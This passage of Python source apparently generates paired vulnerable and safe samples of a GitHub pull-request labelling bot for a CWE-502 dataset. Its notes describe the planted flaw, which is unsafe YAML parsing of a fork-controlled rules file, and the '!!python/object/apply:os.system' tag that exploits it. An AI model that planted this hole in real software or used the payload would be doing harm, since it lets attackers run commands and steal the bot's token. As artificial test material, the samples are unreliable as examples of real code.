        P("dispatch", rank=4, needs=["verify"], imp="import json\nimport os\n" + req, body='''
def dispatch(headers: dict[str, str], body: bytes) -> tuple[int, str]:
    """Entry point of the webhook receiver: status code and a short text for the delivery log."""
    if not signature_valid(os.environ["$BOT_WEBHOOK_SECRET"].encode(), body, headers.get("X-Hub-Signature-256")):
        return 401, "bad signature"
    if headers.get("X-GitHub-Event") != "pull_request":
        return 204, "ignored"
    event = json.loads(body)
    if event.get("action") not in ("opened", "synchronize", "reopened"):
        return 204, "ignored"
    with requests.Session() as session:
        session.headers["Authorization"] = f"Bearer {os.environ['$BOT_TOKEN']}"
        labels = handle_pull_request(event, session)
    return 200, ", ".join(labels) or "no labels"
'''),
        P("size", rank=2, imp="import bisect", const='SIZE_LABELS = ("size/XS", "size/S", "size/M", "size/L", "size/XL")', body='''
def size_label(additions: int, deletions: int, bounds: tuple[int, ...] = (10, 50, 250, 1000)) -> str:
    """A size label from the number of changed lines."""
    return SIZE_LABELS[bisect.bisect_right(bounds, additions + deletions)]
'''),
        P("bots", rank=2, const='IGNORED_SENDERS = frozenset({"dependabot[bot]", "renovate[bot]", "github-actions[bot]"})', body='''
def should_skip(event: dict) -> bool:
    """Drafts and pull requests opened by other bots are left alone."""
    pr = event["pull_request"]
    return pr.get("draft", False) or event.get("sender", {}).get("login") in IGNORED_SENDERS
'''),
        P("check", rank=3, imp=req, body='''
def report_check(session: requests.Session, repo: str, head: str, labels: list[str]) -> None:
    """A neutral check run on the head commit listing the labels applied (the text is plain Markdown)."""
    summary = "\\n".join(f"- `{label}`" for label in labels) or "no rule matched"
    session.post(f"{API}/repos/{repo}/check-runs", timeout=TIMEOUT, json={
        "name": "$bot", "head_sha": head, "status": "completed", "conclusion": "neutral",
        "output": {"title": f"{len(labels)} label(s)", "summary": summary},
    }).raise_for_status()
'''),
        P("cache", rank=2, imp="import functools\nimport hashlib", body='''
@functools.lru_cache(maxsize=256)
def rules_fingerprint(text: str) -> str:
    """Short content hash of a rules file, shown in the check run summary (not a security check)."""
    return hashlib.md5(text.encode(), usedforsecurity=False).hexdigest()[:10]
'''),
    ]
    return core, pool


@fam("mod33s-pr-labeler-config-unsafe-yaml", "CWE-502", fws=["pipeline"], n=_N_PAIRS, wrap=False)
def mod33s_labeler(c):
    kw = _lb_kw(c)
    target = c.pick(*_LB_SPOTS)
    core, pool = _lb_parts(c, target)
    sp = _LB_SPOTS[target]
    v, s = _pair(c, c.pick(*_LB_DOCS), '$log = logging.getLogger("$bot.rules")', core, pool, kw, c.pick(*sp["v"]),
                 c.pick(*sp["s"]))
    return Spec(v=v, s=s, full=True, fw="pipeline",
                notes=sp["what"] + "; anyone who can open a pull request (from a fork) controls that file, and a tag "
                      "such as !!python/object/apply:os.system runs commands in the bot with its API token; the fix "
                      "parses it with the safe loader (plain dicts, lists and strings)")


@hardneg(_N_HN)
def mod33s_labeler_hn(c):
    kw = _lb_kw(c)
    target = c.pick(*_LB_SPOTS)
    core, pool = _lb_parts(c, target)
    code = _safe(c, c.pick(*_LB_DOCS), '$log = logging.getLogger("$bot.rules")', core, pool, kw,
                 c.pick(*_LB_SPOTS[target]["s"]))
    return Spec(s=code, full=True, fw="pipeline",
                notes="labelling bot: rules from the PR head parsed with yaml.safe_load / SafeLoader and validated, "
                      "webhook body json.loads after an HMAC-SHA256 compare_digest check, API calls to a fixed host "
                      "with timeouts, file size capped, md5(usedforsecurity=False) only for a display fingerprint")
